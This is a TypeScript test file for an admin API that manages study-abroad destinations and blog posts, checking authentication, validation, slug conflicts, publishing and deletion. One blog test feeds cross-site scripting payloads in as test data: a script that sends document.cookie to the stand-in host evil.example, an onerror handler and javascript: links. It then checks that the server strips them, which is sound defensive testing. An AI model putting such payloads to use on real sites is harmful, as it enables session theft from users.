import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  expectJson,
  jsonRequest,
  loginAsAdmin,
  startTestServer,
  type TestServer,
} from "../support/test-server";

interface Destination {
  id: number;
  slug: string;
  name: string;
  description: string;
  imageUrl: string | null;
  features: string[];
  isActive: boolean;
  programCount: number;
}
interface BlogPost {
  id: number;
  title: string;
  slug: string;
  excerpt: string;
  content: string;
  featuredImage: string | null;
  category: string;
  tags: string[];
  isPublished: boolean;
  publishedAt: string | null;
}
interface BlogPage {
  items: BlogPost[];
  total: number;
  stats: { total: number; published: number; drafts: number; categories: number };
}
interface ApiError {
  error: string;
  message?: string;
  fields?: Record<string, string>;
}

let server: TestServer;
let token: string;
beforeAll(async () => {
  server = await startTestServer();
  token = await loginAsAdmin(server);
});
afterAll(() => server?.stop());

const auth = () => ({ headers: { Authorization: `Bearer ${token}` } });
const get = (path: string) => server.fetch(path, auth());
const send = (method: string, path: string, body: unknown) =>
  server.fetch(path, jsonRequest(method, body, token));
const remove = (path: string) => server.fetch(path, { method: "DELETE", ...auth() });

const destinations = async () =>
  expectJson<Destination[]>(await get("/api/admin/destinations"), 200);
const blog = async (query = "") => expectJson<BlogPage>(await get(`/api/admin/blog${query}`), 200);

describe("destinations", () => {
  it("needs a staff session", async () => {
    expect((await server.fetch("/api/admin/destinations")).status).toBe(401);
    const write = jsonRequest("POST", { name: "X", description: "Y" });
    expect((await server.fetch("/api/admin/destinations", write)).status).toBe(401);
  });

  it("lists the three seeded cities with their active program counts", async () => {
    const list = await destinations();
    expect(list.map((d) => [d.slug, d.name])).toEqual([
      ["dublin", "Dublin"],
      ["cork", "Cork"],
      ["galway", "Galway"],
    ]);
    const count = new Map(list.map((d) => [d.name, d.programCount]));
    expect(count.get("Dublin")).toBe(8);
    expect(count.get("Cork")).toBe(6);
    expect(count.get("Galway")).toBe(3);
    expect(list[0]?.features).toContain("School near St Stephen's Green");
  });

  it("creates a destination from comma-separated features", async () => {
    const created = await expectJson<Destination>(
      await send("POST", "/api/admin/destinations", {
        name: "  Limerick ",
        description: "A riverside city in the Mid-West.",
        features: "a, b, , c",
      }),
      201,
    );
    expect(created).toMatchObject({
      slug: "limerick",
      name: "Limerick",
      features: ["a", "b", "c"],
      imageUrl: null,
      isActive: true,
      programCount: 0,
    });
    expect((await destinations()).map((d) => d.name)).toContain("Limerick");
  });

  it("accepts features as a list too", async () => {
    const created = await expectJson<Destination>(
      await send("POST", "/api/admin/destinations", {
        name: "Kilkenny",
        description: "A medieval city.",
        features: [" Castle ", "", "Cathedral"],
        imageUrl: "/images/destinations/kilkenny.svg",
        isActive: false,
      }),
      201,
    );
    expect(created).toMatchObject({
      features: ["Castle", "Cathedral"],
      imageUrl: "/images/destinations/kilkenny.svg",
      isActive: false,
    });
  });

  it("names the missing or invalid field", async () => {
    const noName = await send("POST", "/api/admin/destinations", { description: "No name" });
    expect(await expectJson<ApiError>(noName, 400)).toEqual({
      error: "validation",
      fields: { name: "Please fill in all required fields" },
    });
    const blank = await send("POST", "/api/admin/destinations", {
      name: "Sligo",
      description: " ",
    });
    expect((await expectJson<ApiError>(blank, 400)).fields).toEqual({
      description: "Please fill in all required fields",
    });
    const badImage = await send("POST", "/api/admin/destinations", {
      name: "Sligo",
      description: "West coast.",
      imageUrl: "javascript:alert(1)",
    });
    expect((await expectJson<ApiError>(badImage, 400)).fields).toEqual({
      imageUrl: "Use an image path on this site (/images/…) or an https:// address.",
    });
    expect((await destinations()).map((d) => d.name)).not.toContain("Sligo");
  });

  it("refuses a second destination with the same name", async () => {
    const response = await send("POST", "/api/admin/destinations", {
      name: "dublin",
      description: "Again.",
    });
    expect(await expectJson<ApiError>(response, 409)).toEqual({
      error: "conflict",
      message: "A destination with this name already exists.",
      fields: { name: "A destination with this name already exists." },
    });
  });

  it("refuses renaming a destination to another's name", async () => {
    const created = await expectJson<{ id: number }>(
      await send("POST", "/api/admin/destinations", {
        name: "Sligo",
        description: "Yeats country.",
      }),
      201,
    );
    const renamed = await send("PUT", `/api/admin/destinations/${created.id}`, {
      name: "Dublin",
      description: "Yeats country.",
    });
    expect((await expectJson<ApiError>(renamed, 409)).fields).toEqual({
      name: "A destination with this name already exists.",
    });
    const moved = await send("PUT", `/api/admin/destinations/${created.id}`, {
      name: "Sligo Town",
      description: "Yeats country.",
    });
    expect(await expectJson<{ slug: string }>(moved, 200)).toMatchObject({ slug: "sligo-town" });
    // The old name is free again.
    const again = await send("POST", "/api/admin/destinations", {
      name: "Sligo",
      description: "Surf.",
    });
    expect(again.status).toBe(201);
  });

  it("edits a destination, then deletes it", async () => {
    const created = await expectJson<Destination>(
      await send("POST", "/api/admin/destinations", { name: "Waterford", description: "Old." }),
      201,
    );
    const updated = await expectJson<Destination>(
      await send("PUT", `/api/admin/destinations/${created.id}`, {
        name: "Waterford",
        description: "Ireland's oldest city.",
        features: "Crystal, Greenway",
        isActive: false,
      }),
      200,
    );
    expect(updated).toMatchObject({
      id: created.id,
      description: "Ireland's oldest city.",
      features: ["Crystal", "Greenway"],
      isActive: false,
    });
    const listed = (await destinations()).find((d) => d.id === created.id);
    expect(listed?.description).toBe("Ireland's oldest city.");

    const deleted = await remove(`/api/admin/destinations/${created.id}`);
    expect(await expectJson(deleted, 200)).toEqual({ ok: true });
    expect((await destinations()).map((d) => d.id)).not.toContain(created.id);
    expect(
      await expectJson<ApiError>(await remove(`/api/admin/destinations/${created.id}`), 404),
    ).toEqual({ error: "not_found", message: "Destination not found" });
    const stale = await send("PUT", `/api/admin/destinations/${created.id}`, {
      name: "Waterford",
      description: "Gone.",
    });
    expect((await expectJson<ApiError>(stale, 404)).message).toBe("Destination not found");
  });

  it("rejects an id that is not a number", async () => {
    const response = await remove("/api/admin/destinations/dublin");
    expect((await expectJson<ApiError>(response, 400)).error).toBe("validation");
  });
});

describe("blog", () => {
  it("lists the seeded posts with totals, filtered by status and category", async () => {
    const page = await blog();
    expect(page.total).toBe(5);
    expect(page.stats).toEqual({ total: 5, published: 4, drafts: 1, categories: 4 });
    const drafts = await blog("?status=draft");
    expect(drafts.items.map((p) => p.slug)).toEqual(["certtesol-2026-dates-and-how-to-apply"]);
    expect(drafts.stats.total).toBe(5);
    expect((await blog("?status=published")).total).toBe(4);
    expect((await blog("?category=Destinations")).total).toBe(2);
    expect((await blog("?q=GESE")).items.map((p) => p.slug)).toContain(
      "preparing-for-trinity-gese",
    );
  });

  it("requires title and content", async () => {
    const noContent = await send("POST", "/api/admin/blog", { title: "Only a title" });
    expect(await expectJson<ApiError>(noContent, 400)).toEqual({
      error: "validation",
      fields: { content: "Please fill in title and content" },
    });
    const noTitle = await send("POST", "/api/admin/blog", { title: "", content: "Body" });
    expect((await expectJson<ApiError>(noTitle, 400)).fields?.title).toBe(
      "Please fill in title and content",
    );
    const noSlug = await send("POST", "/api/admin/blog", { title: "!!!", content: "Body" });
    expect((await expectJson<ApiError>(noSlug, 400)).fields).toEqual({
      slug: "The title needs at least one letter or digit to make an address from.",
    });
  });

  it("derives the slug from the title and refuses a duplicate", async () => {
    const post = await expectJson<BlogPost>(
      await send("POST", "/api/admin/blog", {
        title: "Hello World! Café",
        content: "First post.",
        tags: "news, , ireland",
      }),
      201,
    );
    expect(post).toMatchObject({
      slug: "hello-world-cafe",
      category: "News",
      excerpt: "",
      tags: ["news", "ireland"],
      isPublished: false,
      publishedAt: null,
    });
    const again = await send("POST", "/api/admin/blog", {
      title: "Hello, world — café",
      content: "Same address.",
    });
    expect(await expectJson<ApiError>(again, 409)).toEqual({
      error: "conflict",
      message: "Another post already uses this slug.",
      fields: { slug: "Another post already uses this slug." },
    });
    const custom = await send("POST", "/api/admin/blog", {
      title: "Hello World! Café",
      slug: "My Own Address",
      content: "Explicit slug.",
    });
    expect((await expectJson<BlogPost>(custom, 201)).slug).toBe("my-own-address");
    expect((await blog()).stats).toEqual({ total: 7, published: 4, drafts: 3, categories: 5 });
  });

  it("publishes and unpublishes a post, keeping the first publication date", async () => {
    const post = await expectJson<BlogPost>(
      await send("POST", "/api/admin/blog", { title: "Publish me", content: "Body" }),
      201,
    );
    const started = Date.now();
    const published = await expectJson<BlogPost>(
      await send("PATCH", `/api/admin/blog/${post.id}/publish`, { isPublished: true }),
      200,
    );
    expect(published.isPublished).toBe(true);
    const publishedAt = Date.parse(published.publishedAt ?? "");
    expect(Math.abs(publishedAt - started)).toBeLessThan(60_000);
    expect((await blog("?status=published")).items.map((p) => p.id)).toContain(post.id);

    const unpublished = await expectJson<BlogPost>(
      await send("PATCH", `/api/admin/blog/${post.id}/publish`, { isPublished: false }),
      200,
    );
    expect(unpublished).toMatchObject({ isPublished: false, publishedAt: published.publishedAt });
    expect((await blog("?status=draft")).items.map((p) => p.id)).toContain(post.id);

    const again = await expectJson<BlogPost>(
      await send("PATCH", `/api/admin/blog/${post.id}/publish`, { isPublished: true }),
      200,
    );
    expect(again.publishedAt).toBe(published.publishedAt);

    const invalid = await send("PATCH", `/api/admin/blog/${post.id}/publish`, {});
    expect((await expectJson<ApiError>(invalid, 400)).fields).toHaveProperty("isPublished");
    const missing = await send("PATCH", "/api/admin/blog/999999/publish", { isPublished: true });
    expect(await expectJson<ApiError>(missing, 404)).toEqual({
      error: "not_found",
      message: "Blog post not found",
    });
  });

  it("stores a post without its unsafe raw HTML, on create and on edit", async () => {
    const hostile = [
      "Our **Galway** guide.",
      "",
      "<script>document.location='https://evil.example/?'+document.cookie</script>",
      "",
      'A photo: <img src="https://images.example/arch.png" onerror="alert(1)"> of the Arch.',
    ].join("\n");
    const post = await expectJson<BlogPost>(
      await send("POST", "/api/admin/blog", { title: "Galway guide", content: hostile }),
      201,
    );
    expect(post.content).toContain("Our **Galway** guide.");
    expect(post.content).toContain('<img src="https://images.example/arch.png" /> of the Arch.');
    expect(post.content).not.toMatch(/script|onerror|evil\.example/);

    const edited = await expectJson<BlogPost>(
      await send("PUT", `/api/admin/blog/${post.id}`, {
        title: "Galway guide",
        content: 'Edited <a href="javascript:alert(1)" onclick="x()">link</a>',
      }),
      200,
    );
    expect(edited.content).toBe("Edited <a>link</a>");
  });

  it("edits a post, refusing another post's slug", async () => {
    const post = await expectJson<BlogPost>(
      await send("POST", "/api/admin/blog", { title: "Draft title", content: "Draft body" }),
      201,
    );
    const edited = await expectJson<BlogPost>(
      await send("PUT", `/api/admin/blog/${post.id}`, {
        title: "Final title",
        content: "Final body",
        excerpt: "Short",
        category: "Exams",
        tags: ["a"],
        featuredImage: "https://cdn.example.com/final.png",
        isPublished: true,
      }),
      200,
    );
    expect(edited).toMatchObject({
      slug: "final-title",
      content: "Final body",
      excerpt: "Short",
      category: "Exams",
      tags: ["a"],
      featuredImage: "https://cdn.example.com/final.png",
      isPublished: true,
    });
    expect(edited.publishedAt).not.toBeNull();
    const clash = await send("PUT", `/api/admin/blog/${post.id}`, {
      title: "Final title",
      slug: "preparing-for-trinity-gese",
      content: "Final body",
    });
    expect((await expectJson<ApiError>(clash, 409)).fields).toEqual({
      slug: "Another post already uses this slug.",
    });
    const missing = await send("PUT", "/api/admin/blog/999999", { title: "T", content: "C" });
    expect((await expectJson<ApiError>(missing, 404)).message).toBe("Blog post not found");
  });

  it("deletes a post", async () => {
    const post = await expectJson<BlogPost>(
      await send("POST", "/api/admin/blog", { title: "Short-lived", content: "Bye" }),
      201,
    );
    expect(await expectJson(await remove(`/api/admin/blog/${post.id}`), 200)).toEqual({ ok: true });
    expect((await blog("?q=Short-lived")).total).toBe(0);
    expect(await expectJson<ApiError>(await remove(`/api/admin/blog/${post.id}`), 404)).toEqual({
      error: "not_found",
      message: "Blog post not found",
    });
  });
});
